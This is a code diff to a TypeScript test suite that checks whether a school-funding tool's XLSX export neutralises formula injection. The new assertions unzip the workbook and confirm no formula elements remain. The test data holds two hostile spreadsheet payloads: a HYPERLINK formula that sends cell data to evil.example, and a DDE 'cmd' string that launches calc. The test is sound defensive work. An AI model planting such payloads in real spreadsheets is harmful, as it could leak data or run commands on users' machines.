@@ -8,6 +8,7 @@ import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import ExcelJS from 'exceljs';
+import JSZip from 'jszip';
 import { describe, expect, it } from 'vitest';
 import { safeText, setCell, NUMBER_FORMATS } from '../../src/report/xlsx/cells.js';
 import { SHEETS } from '../../src/report/xlsx/workbook.js';
@@ -18,22 +19,22 @@ import { ROOT } from '../helpers/library.js';
 
 const EXAMPLES = ['2016-17-optional-transfer', '2019-20-county-charter', '2023-24-csv-students'];
 
-const runs = new Map<string, Promise<{ json: RunResult; wb: ExcelJS.Workbook }>>();
+const runs = new Map<string, Promise<{ json: RunResult; wb: ExcelJS.Workbook; file: string }>>();
 
 /** `lcff run <scenario> --json --xlsx <tmp file>` (once per scenario): the JSON on stdout, the workbook read back. */
-function runBoth(scenario: string): Promise<{ json: RunResult; wb: ExcelJS.Workbook }> {
+function runBoth(scenario: string): Promise<{ json: RunResult; wb: ExcelJS.Workbook; file: string }> {
   if (!runs.has(scenario)) runs.set(scenario, runOnce(scenario));
   return runs.get(scenario)!;
 }
 
-async function runOnce(scenario: string): Promise<{ json: RunResult; wb: ExcelJS.Workbook }> {
+async function runOnce(scenario: string): Promise<{ json: RunResult; wb: ExcelJS.Workbook; file: string }> {
   const file = join(mkdtempSync(join(tmpdir(), 'lcff-xlsx-')), 'out.xlsx');
   const r = lcff(['run', scenario, '--json', '--xlsx', file]);
   expect(r.stderr).toBe(`wrote ${file}\n`);
   expect(r.code).toBe(0);
   const wb = new ExcelJS.Workbook();
   await wb.xlsx.load(readFileSync(file));
-  return { json: JSON.parse(r.stdout) as RunResult, wb };
+  return { json: JSON.parse(r.stdout) as RunResult, wb, file };
 }
 
 /** The table of a sheet: header names → column numbers, the data rows, and the row whose first cell starts with "Total". */
@@ -182,7 +183,18 @@ describe('text cells are safe from formula injection', () => {
       .replace('{ id: S001,', `{ id: '=HYPERLINK("http://evil.example/?x="&A2,"click")',`)
       .replace('name: Hayward Unified', `name: "@SUM(1+1)*cmd|' /C calc'!A0"`);
     writeFileSync(join(dir, 'scenario.yaml'), hostile);
-    const { wb } = await runBoth(join(dir, 'scenario.yaml'));
+    const { wb, file } = await runBoth(join(dir, 'scenario.yaml'));
+    // in the file itself: no formula element anywhere; text only as shared strings (t="s"), the canonical text cell
+    const zip = await JSZip.loadAsync(readFileSync(file));
+    const sheets = Object.keys(zip.files).filter((f) => /^xl\/worksheets\/sheet\d+\.xml$/.test(f));
+    expect(sheets).toHaveLength(SHEETS.length);
+    for (const f of sheets) {
+      const xml = await zip.file(f)!.async('string');
+      expect(xml).not.toMatch(/<f[ >]/);
+      expect(xml).not.toMatch(/t="(str|inlineStr)"/);
+    }
+    const strings = await zip.file('xl/sharedStrings.xml')!.async('string');
+    expect(strings).toContain('<t>&apos;=HYPERLINK(&quot;http://evil.example/?x=&quot;&amp;A2,&quot;click&quot;)</t>');
     const st = table(wb.getWorksheet('Students')!);
     const ids = st.rows.map((r) => st.cell(r, 'id'));
     const evil = ids.find((c) => String(c.value).includes('HYPERLINK'))!;
